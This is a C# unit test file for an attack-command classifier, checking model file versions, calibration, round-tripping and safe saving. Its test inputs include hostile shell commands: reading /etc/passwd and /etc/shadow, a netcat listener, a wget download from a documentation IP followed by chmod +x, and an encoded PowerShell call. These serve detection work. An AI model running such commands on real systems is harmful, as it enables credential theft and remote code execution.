using AttackClassifier.Calibration;
using AttackClassifier.Classification;
using AttackClassifier.Data;
using AttackClassifier.Serialization;
using AttackClassifier.Tests.Data;

namespace AttackClassifier.Tests.Serialization;

public class ModelFileVersionTests
{
    private static string Fixture(string name) => Path.Combine(AppContext.BaseDirectory, "Fixtures", "Serialization", name);

    private static TfidfLogisticRegressionClassifier Trained()
    {
        CommandDataset data = CommandDataset.Load(SampleDataTests.SamplePath);
        return TfidfLogisticRegressionClassifier.Train(data, new TfidfLogisticRegressionOptions { Classifier = new() { MaxIterations = 30 } });
    }

    [Theory]
    [InlineData("v1-lr.acm", ModelKind.LogisticRegression)]
    [InlineData("v1-lstm.acm", ModelKind.Lstm)]
    public void Version_1_files_still_load_without_calibration_or_metadata(string file, ModelKind kind)
    {
        LoadedModel model = ModelFile.Open(Fixture(file));
        Assert.Equal(1, model.Info.FormatVersion);
        Assert.Equal(kind, model.Info.Kind);
        Assert.Null(model.Info.Metadata);
        Assert.Equal(ModelCalibration.None, model.Classifier.Calibration);
        Assert.Equal(64, model.Info.Sha256.Length);
        Prediction p = model.Classifier.Predict("cat /etc/passwd");
        Assert.InRange(p.Probability, 0, 1);
        Assert.Equal(3, model.Classifier.Labels.Count);
    }

    [Fact]
    public void Version_3_round_trips_calibration_and_metadata_and_its_identity_ignores_the_creation_time()
    {
        IAttackClassifier classifier = Trained().WithCalibration(new ModelCalibration(1.7, 0.42, "a rule"));
        var metadata = new ModelMetadata
        {
            CreatedUtc = new DateTimeOffset(2026, 12, 4, 10, 0, 0, TimeSpan.Zero), ToolVersion = "9.9.9", Name = "sample",
            TrainingDataSha256 = new string('a', 64), TrainingRows = 677, AttackCatalogVersion = "v18.1",
            Options = new Dictionary<string, string> { ["preset"] = "study", ["C"] = "10" },
        };
        var first = new MemoryStream();
        ModelFile.Save(classifier, first, metadata);
        var second = new MemoryStream();
        ModelFile.Save(classifier, second, metadata with { CreatedUtc = metadata.CreatedUtc!.Value.AddDays(1) });
        LoadedModel a = ModelFile.Open(new MemoryStream(first.ToArray()), "a");
        LoadedModel b = ModelFile.Open(new MemoryStream(second.ToArray()), "b");
        Assert.Equal(3, a.Info.FormatVersion);
        Assert.Equal(new ModelCalibration(1.7, 0.42, "a rule"), a.Classifier.Calibration);
        Assert.Equal(metadata.CreatedUtc, a.Info.Metadata!.CreatedUtc);
        Assert.Equal("9.9.9", a.Info.Metadata.ToolVersion);
        Assert.Equal(677, a.Info.Metadata.TrainingRows);
        Assert.Equal("study", a.Info.Metadata.Options["preset"]);
        Assert.Equal(a.Info.Sha256, b.Info.Sha256);                    // the model's identity
        Assert.NotEqual(first.ToArray(), second.ToArray());             // only the metadata differs
        double[] p = new double[classifier.Labels.Count], q = new double[classifier.Labels.Count];
        classifier.PredictProbabilities("nc -lvnp 4444", p);
        a.Classifier.PredictProbabilities("nc -lvnp 4444", q);
        Assert.Equal(p, q);
    }

    [Fact]
    public void A_version_2_lstm_file_still_loads_with_its_epoch_seconds()
    {
        LoadedModel model = ModelFile.Open(Fixture("v2-lstm.acm"));
        Assert.Equal(2, model.Info.FormatVersion);
        Assert.Equal(ModelKind.Lstm, model.Info.Kind);
        Assert.Equal(new DateTimeOffset(2025, 12, 4, 0, 0, 0, TimeSpan.Zero), model.Info.Metadata!.CreatedUtc);
        var lstm = Assert.IsType<LstmClassifier>(model.Classifier);
        Assert.Equal([1, 2], lstm.Model.History.Select(e => e.Epoch));
        Assert.All(lstm.Model.History, e => Assert.True(e.Seconds > 0 && e.TrainingLoss > 0, e.ToString()));
        Assert.Equal(3, lstm.Labels.Count);
        Prediction p = lstm.Predict("cat /etc/passwd");
        Assert.InRange(p.Probability, 0, 1);

        // Written again it is a version-3 file: same predictions, no seconds.
        var stream = new MemoryStream();
        ModelFile.Save(lstm, stream, model.Info.Metadata);
        LoadedModel again = ModelFile.Open(new MemoryStream(stream.ToArray()), "again");
        Assert.Equal(3, again.Info.FormatVersion);
        Assert.All(((LstmClassifier)again.Classifier).Model.History, e => Assert.True(double.IsNaN(e.Seconds)));
        double[] a = new double[3], b = new double[3];
        foreach (string command in new[] { "cat /etc/passwd", "uname -a", "qqq" })
        {
            lstm.PredictProbabilities(command, a);
            again.Classifier.PredictProbabilities(command, b);
            Assert.Equal(a, b);
        }
    }

    [Fact]
    public void Same_data_and_seed_give_byte_identical_lstm_files()
    {
        CommandDataset data = CommandDataset.Load(SampleDataTests.SamplePath).Consolidate();
        var options = new LstmClassifierOptions { Network = new AttackClassifier.Models.Lstm.LstmOptions { MaxEpochs = 2, EmbeddingSize = 8, HiddenSize = 8, Seed = 7 } };
        var metadata = new ModelMetadata { ToolVersion = "1.0.0", TrainingRows = data.Count };
        byte[] Bytes()
        {
            var stream = new MemoryStream();
            ModelFile.Save(LstmClassifier.Train(data, data, options), stream, metadata);
            return stream.ToArray();
        }
        Assert.Equal(Bytes(), Bytes());
    }

    [Fact]
    public void The_default_preset_with_normalisation_round_trips()
    {
        CommandDataset data = CommandDataset.Load(SampleDataTests.SamplePath);
        var options = TfidfLogisticRegressionOptions.Default with { Classifier = new() { InverseRegularization = 100, MaxIterations = 40 } };
        var trained = TfidfLogisticRegressionClassifier.Train(data, options);
        Assert.NotNull(trained.Normalization);
        var stream = new MemoryStream();
        ModelFile.Save(trained, stream);
        var loaded = (TfidfLogisticRegressionClassifier)ModelFile.Load(new MemoryStream(stream.ToArray()), "m");
        Assert.NotNull(loaded.Normalization);
        double[] p = new double[trained.Labels.Count], q = new double[trained.Labels.Count];
        foreach (string command in new[] { "cd /tmp; wget http://203.0.113.7/x && chmod +x x", "powershell -enc dwBoAG8AYQBtAGkA", "ls" })
        {
            trained.PredictProbabilities(command, p);
            loaded.PredictProbabilities(command, q);
            Assert.Equal(p, q);
        }
        var study = TfidfLogisticRegressionClassifier.Train(data, TfidfLogisticRegressionOptions.Study with { Classifier = new() { MaxIterations = 10 } });
        Assert.Null(study.Normalization);
    }

    [Fact]
    public void Calibration_changes_probabilities_but_never_the_ranking()
    {
        TfidfLogisticRegressionClassifier raw = Trained();
        IAttackClassifier hot = raw.WithCalibration(new ModelCalibration(3.0));
        foreach (string command in new[] { "cat /etc/shadow", "uname -a", "wget http://203.0.113.7/x.sh" })
        {
            Prediction before = raw.Predict(command, 5), after = hot.Predict(command, 5);
            Assert.Equal(before.Top.Select(t => t.Label), after.Top.Select(t => t.Label));
            Assert.True(after.Probability < before.Probability);
        }
    }

    [Fact]
    public void An_invalid_calibration_in_a_file_is_rejected_even_with_a_valid_checksum()
    {
        var stream = new MemoryStream();
        ModelFile.Save(Trained(), stream);
        byte[] bytes = stream.ToArray();
        long length = BitConverter.ToInt64(bytes, 8);
        // The payload ends with temperature (8), threshold (8), rule length (4) and the rule "none" (4).
        int temperatureAt = ModelFileFormat.HeaderSize + (int)length - 24;
        BitConverter.TryWriteBytes(bytes.AsSpan(temperatureAt, 8), -1.0);
        System.Security.Cryptography.SHA256.HashData(bytes.AsSpan(ModelFileFormat.HeaderSize, (int)length), bytes.AsSpan(16, 32));
        var e = Assert.Throws<ModelFormatException>(() => ModelFile.Open(new MemoryStream(bytes), "forged.acm"));
        Assert.Contains("forged.acm: invalid model payload", e.Message);
        Assert.Contains("temperature", e.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void A_failed_save_leaves_the_previous_model_intact_and_no_temporary_file()
    {
        string folder = Directory.CreateTempSubdirectory().FullName;
        string path = Path.Combine(folder, "model.acm");
        try
        {
            ModelFile.Save(Trained(), path);
            byte[] before = File.ReadAllBytes(path);
            Assert.Throws<NotSupportedException>(() => ModelFile.Save(new Unsaveable(), path));
            Assert.Equal(before, File.ReadAllBytes(path));
            Assert.Equal(["model.acm"], Directory.GetFiles(folder).Select(Path.GetFileName));
            var e = Assert.Throws<IOException>(() => ModelFile.Save(Trained(), Path.Combine(folder, "missing", "m.acm")));
            Assert.Contains("m.acm: cannot write the model file", e.Message);
        }
        finally { Directory.Delete(folder, recursive: true); }
    }

    private sealed class Unsaveable : IAttackClassifier
    {
        public IReadOnlyList<string> Labels => ["a", "b"];
        public ModelCalibration Calibration => ModelCalibration.None;
        public void PredictProbabilities(string commandLine, Span<double> probabilities) => probabilities.Fill(0.5);
        public IAttackClassifier WithCalibration(ModelCalibration calibration) => this;
    }
}
